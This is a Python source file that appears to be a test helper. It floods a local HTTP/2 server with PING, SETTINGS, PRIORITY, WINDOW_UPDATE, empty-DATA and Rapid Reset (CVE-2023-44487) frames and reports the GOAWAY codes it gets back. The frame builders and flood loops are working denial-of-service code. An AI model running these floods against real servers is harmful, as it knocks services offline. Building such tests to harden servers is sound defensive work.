"""An HTTP/2 flooding client, run as its own process by the flood tests so that the attacker
does not share a GIL with the well-behaved client being measured.

    python flood_client.py PORT KIND SECONDS [--tls CAFILE] [--read] [--reconnect] [--source IP]

It opens a connection (h2c prior knowledge, or TLS with ALPN h2), sends the preface and
SETTINGS, then the KIND frame over and over as fast as the socket takes it, reading and
dropping what the server sends when --read is given. With --reconnect it opens a new
connection whenever the server closes one. At the end it prints one JSON line: connections
opened, frames sent, and the error codes of the GOAWAY frames it read.
"""

from __future__ import annotations

import argparse
import json
import os
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# A GOAWAY frame's header without debug data: 8 bytes long, type 7, no flags, stream 0.
_GOAWAY_HEAD = bytes((0, 0, 8, 7, 0, 0, 0, 0, 0))


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload


# A GET on stream 1 without END_STREAM (hpack: :method GET, :path /, :scheme http, indexed;
# :authority "a", literal), for the floods that need an open stream.
_OPEN_STREAM_1 = frame(0x1, 0x4, 1, bytes((0x82, 0x84, 0x86, 0x41, 0x01)) + b"a")

# A GET from HPACK's static table with a literal :authority, never indexed: the same bytes
# open any stream without touching the dynamic table.
_GET = bytes((0x82, 0x84, 0x86, 0x01, 0x01)) + b"a"


def rapid_resets(first: int, count: int) -> bytes:
    """Streams opened and reset at once (CVE-2023-44487), from stream id `first` on."""
    return b"".join(
        frame(0x1, 0x5, stream_id, _GET) + frame(0x3, 0, stream_id, struct.pack(">I", 8))
        for stream_id in range(first, first + 2 * count, 2)
    )


FLOODS = {
    "ping": (b"", frame(0x6, 0, 0, b"12345678")),
    "settings": (b"", frame(0x4, 0, 0, struct.pack(">HI", 0x4, 65535))),
    "priority": (b"", frame(0x2, 0, 3, struct.pack(">IB", 0, 16))),
    "window_update": (b"", frame(0x8, 0, 0, struct.pack(">I", 1))),
    "empty_data": (_OPEN_STREAM_1, frame(0x0, 0, 1)),
    "rapid_reset": (b"", b""),  # made per blob: stream ids must grow
}


# How long a connection is read on, for its GOAWAY, once its flood has ended.
READER_GRACE = 0.5


def connect(port: int, context: ssl.SSLContext | None, source: str) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0))
    if context is not None:
        sock = context.wrap_socket(sock, server_hostname="localhost")
    sock.sendall(PREFACE + frame(0x4, 0, 0))
    return sock


class Connection:
    """One flooding connection, sending and (with --read) reading in one thread: a TLS socket
    must not be read by one thread while another writes it (OpenSSL forbids it; the reader
    then failed now and then, and the GOAWAY it should have seen went unrecorded)."""

    def __init__(self, sock: socket.socket, read: bool) -> None:
        self.sock = sock
        self.read = read
        self.tail = b""  # the last bytes read: the GOAWAY that ends the connection is in them
        self.closed = False
        sock.setblocking(False)

    def send(self, data: bytes, deadline: float) -> bool:
        """Send all of `data` by `deadline`, reading meanwhile; False once the server closed
        or the deadline passed."""
        pending = memoryview(data)
        while pending and not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            readable, writable, _ = select.select([self.sock] if self.read else [], [self.sock], [],
                                                  min(left, 0.1))
            if readable:
                self._receive()
            if writable and not self.closed:
                try:
                    pending = pending[self.sock.send(pending):]
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                    pass
                except (OSError, ValueError):
                    self.closed = True
        return not self.closed

    def finish(self, grace: float) -> int | None:
        """Read on until the server closes, for at most `grace` seconds; the GOAWAY's code."""
        deadline = time.monotonic() + grace
        while self.read and not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            if select.select([self.sock], [], [], left)[0]:
                self._receive()
        at = self.tail.rfind(_GOAWAY_HEAD)
        if at >= 0 and len(self.tail) >= at + 17:
            return int.from_bytes(self.tail[at + 13:at + 17], "big")
        return None

    def _receive(self) -> None:
        """Read and drop all that is there, as fast as it comes (a slow reader would throttle
        the flood itself)."""
        while True:
            try:
                chunk = self.sock.recv(1 << 20)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return
            except (OSError, ValueError):
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.tail = (self.tail + chunk)[-64:]


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("kind", choices=sorted(FLOODS))
    parser.add_argument("seconds", type=float)
    parser.add_argument("--tls", metavar="CAFILE")
    parser.add_argument("--read", action="store_true")
    parser.add_argument("--reconnect", action="store_true")
    parser.add_argument("--source", default="127.0.0.1", help="the address to connect from")
    args = parser.parse_args()
    # The attacker's own CPU is not what is measured: it gets what the server and the client
    # being measured leave over, as on a machine of its own.
    os.nice(19)
    context = None
    if args.tls:
        context = ssl.create_default_context(cafile=args.tls)
        context.set_alpn_protocols(["h2"])
    opening, flood = FLOODS[args.kind]
    per_blob = 65536 // max(1, len(flood))
    blob = flood * per_blob
    deadline = time.monotonic() + args.seconds
    connections = frames = 0
    goaways: list[int] = []
    while time.monotonic() < deadline:
        try:
            sock = connect(args.port, context, args.source)
        except OSError:
            if not args.reconnect:
                break
            time.sleep(0.01)
            continue
        connections += 1
        connection = Connection(sock, args.read)
        stream_id = 1
        if connection.send(opening, deadline):
            while time.monotonic() < deadline:
                if args.kind == "rapid_reset":
                    blob = rapid_resets(stream_id, 100)
                    stream_id += 200
                    per_blob = 200
                if not connection.send(blob, deadline):
                    break
                frames += per_blob
        code = connection.finish(READER_GRACE)
        if code is not None:
            goaways.append(code)
        sock.close()
        if not args.reconnect:
            break
    print(json.dumps({"connections": connections, "frames": frames, "goaways": goaways}), flush=True)


if __name__ == "__main__":
    main()
